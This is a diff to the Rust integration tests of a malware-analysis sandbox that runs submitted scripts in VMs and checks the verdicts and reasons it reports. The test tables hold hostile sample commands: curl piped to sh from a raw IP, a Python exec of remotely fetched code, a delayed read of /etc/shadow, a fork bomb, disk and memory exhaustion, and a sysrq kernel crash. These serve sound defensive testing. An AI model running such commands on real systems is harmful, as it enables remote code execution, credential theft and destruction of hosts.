@@ -28,7 +28,7 @@ impl Lab {
     pub(crate) fn with(vms: &str, more: &str) -> Lab {
         let alone = ONE_AT_A_TIME.lock().unwrap_or_else(PoisonError::into_inner);
         let site = Site::new(&format!(
-            "[lab]\nenabled = true\nslots = 1\nattempts = 2\nguest = {:?}\nvms = {vms}\nvm_accelerator = \"tcg\"\nvm_watch = \"4s\"\n{more}",
+            "[lab]\nenabled = true\nslots = 1\nattempts = 2\nguest = {:?}\nvms = {vms}\nvm_accelerator = \"tcg\"\nvm_watch = \"12s\"\n{more}",
             guest()
         ));
         // The data folder must be one before something is put into it.
@@ -44,7 +44,7 @@ impl Lab {
     }
 
     /// Hands in a sample; its number.
-    fn submit(&self, name: &str, content: &[u8]) -> String {
+    pub(crate) fn submit(&self, name: &str, content: &[u8]) -> String {
         let file = self.site.home().join(name);
         fs::write(&file, content).unwrap();
         self.site.json(&["lab", "submit", file.to_str().unwrap()])[0]["sample"].to_string()
@@ -52,7 +52,7 @@ impl Lab {
 
     /// Waits until a sample has ended; its page.
     #[track_caller]
-    fn ended(&self, sample: &str) -> Value {
+    pub(crate) fn ended(&self, sample: &str) -> Value {
         let begun = Instant::now();
         loop {
             let page = self.site.json(&["lab", "report", sample]);
@@ -107,7 +107,7 @@ fn full(page: &Value) -> Value {
 fn guest() -> PathBuf {
     let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").canonicalize().unwrap();
     let guest = root.join("target/guest");
-    if !guest.join("initrd").exists() {
+    if !guest.join("root.squashfs").exists() {
         let built = Command::new(root.join("guest/build")).status().expect("bash");
         assert!(built.success(), "the guest could not be built: run `make guest`");
     }
@@ -167,7 +167,15 @@ fn a_script_is_run_in_a_vm_and_the_report_says_what_it_did() {
     let result = page["results"].as_array().unwrap().iter().find(|result| result["plugin"] == "run-linux").unwrap();
     assert_has(&result["report"], "artifacts", &json!({ "dataType": "file", "filename": "dropped.txt" }));
     assert_has(&result["report"], "artifacts", &json!({ "dataType": "url", "data": "http://evil.example/x" }));
-    assert_eq!(page["verdict"], "clean", "that alone speaks against nobody: {page:#}");
+    assert_eq!(
+        page["verdict"], "unknown",
+        "that alone speaks against nobody, and nobody knows what was fetched: {page:#}"
+    );
+    let reasons = page["reasons"].to_string();
+    assert!(
+        reasons.contains("it called evil.example, and what would really be answered there is not known"),
+        "{reasons}"
+    );
     let said = lab.site.weir(&["lab", "report", &page["sample"].to_string()]).stdout;
     for line in [
         "ran        ",
@@ -250,6 +258,63 @@ fn what_a_sample_does_decides_about_it() {
     }
 }
 
+/// What was seen in the field: each of these was clean, or unknown without a reason.
+#[test]
+fn silence_is_never_clean() {
+    let lab = Lab::with("[\"vm1\"]", "children_count = 2\n");
+    let _up = lab.site.up();
+    let table: [(&str, &str, &str, &str); 10] = [
+        (
+            "pipe.sh",
+            "#!/bin/sh\ncurl -fsSL http://203.0.113.66/a.sh | sh\nexit 0\n",
+            "suspicious",
+            "runs-fetched: http://203.0.113.66/a.sh",
+        ),
+        ("bash.sh", "#!/bin/bash\nprintf '%s\\n' {1..3}\n", "clean", "it ran to its end in Linux"),
+        (
+            "tls.py",
+            "#!/usr/bin/env python3\nimport urllib.request\nexec(urllib.request.urlopen('https://a.example/b').read())\n",
+            "suspicious",
+            "runs-fetched: https://a.example/b",
+        ),
+        ("absent.sh", "#!/bin/sh\nno-such-tool --now 2>/dev/null\nexit 0\n", "unknown", "no-such-tool was not there"),
+        ("node.js", "#!/usr/bin/env node\nx\n", "unknown", "node was not there"),
+        (
+            "dmi.sh",
+            "#!/bin/sh\ncat /sys/class/dmi/id/sys_vendor > /dev/null; echo hi\nexit 0\n",
+            "unknown",
+            "it looked what machine it is on",
+        ),
+        (
+            "up.sh",
+            "#!/bin/sh\n[ $(cut -d. -f1 /proc/uptime) -gt 86400 ] && echo long\nexit 0\n",
+            "unknown",
+            "/proc/uptime",
+        ),
+        ("nothing.sh", "#!/bin/sh\nexit 0\n", "unknown", "it did nothing that can be seen"),
+        ("late.sh", "#!/bin/sh\nsleep 86400; cat /etc/shadow\nexit 0\n", "suspicious", "waits: 86400 s"),
+        (
+            "nul.sh",
+            "#!/bin/sh\nprintf 'a\\000b \\\\u0000'; printf x > \"/tmp/\\\\u0000\"\n",
+            "clean",
+            "it ran to its end in Linux",
+        ),
+    ];
+    for (name, script, verdict, reason) in table {
+        let page = lab.ended(&lab.submit(name, script.as_bytes()));
+        assert_eq!((&page["state"], &page["verdict"]), (&json!("done"), &json!(verdict)), "{name}: {page:#}");
+        let reasons = page["reasons"].to_string();
+        assert!(reasons.contains(reason), "{name}: {reason:?} is not in {reasons}");
+        for form in ["--html", "--misp", "--stix", "--navigator"] {
+            assert!(!lab.site.weir(&["lab", "report", &page["sample"].to_string(), form]).ok().is_empty());
+        }
+    }
+    let arm = [&b"\x7fELF\x01\x01\x01"[..], &[0; 9], &[2, 0, 40, 0, 1, 0, 0, 0], &[0; 60]].concat();
+    let page = lab.ended(&lab.submit("bot.arm", &arm));
+    assert_eq!(page["verdict"], "unknown", "{page:#}");
+    assert!(page["reasons"].to_string().contains("it is a program for ARM, which this guest does not run"), "{page:#}");
+}
+
 #[test]
 fn samples_that_attack_their_guest_harm_nobody_else() {
     let lab = Lab::new("[\"vm1\"]");
@@ -259,7 +324,7 @@ fn samples_that_attack_their_guest_harm_nobody_else() {
         ("forks.sh", "while :; do sh \"$0\" & done", ""),
         ("disk.sh", "for d in /tmp /var/tmp /dev/shm ~; do cat /dev/zero > $d/fill; done; exit 7", ""),
         ("memory.sh", "x=x; while :; do x=$x$x; done", ""),
-        ("hang.sh", "trap '' TERM; while :; do sleep 1; done", "watched 4 s"),
+        ("hang.sh", "trap '' TERM; while :; do sleep 1; done", "watched 12 s"),
         ("stop.sh", "kill -STOP $$; exit 6", "exit 6"),
         ("serial.sh", "for p in /dev/vport* /dev/hvc* /dev/ttyS0; do cat /dev/urandom > $p; done; exit 8", "exit 8"),
     ] {
@@ -279,7 +344,8 @@ fn a_guest_that_is_brought_down_counts_as_an_attempt_and_comes_back() {
     for (name, script) in [("off.sh", "poweroff -f; sleep 60"), ("crash.sh", "echo c > /proc/sysrq-trigger; sleep 60")]
     {
         let page = lab.ended(&lab.submit(name, format!("#!/bin/sh\n{script}\n").as_bytes()));
-        assert_eq!(page["state"], "quarantined", "{page:#}");
+        assert_eq!((&page["state"], &page["verdict"]), (&json!("quarantined"), &json!("suspicious")), "{page:#}");
+        assert!(page["reasons"].to_string().contains("kills-guest: the guest died"), "{page:#}");
         let results = page["results"].as_array().unwrap();
         let died = results.iter().filter(|result| result["report"]["errorMessage"] == "the guest died").count();
         assert_eq!(died, 2, "as many as there may be attempts: {page:#}");
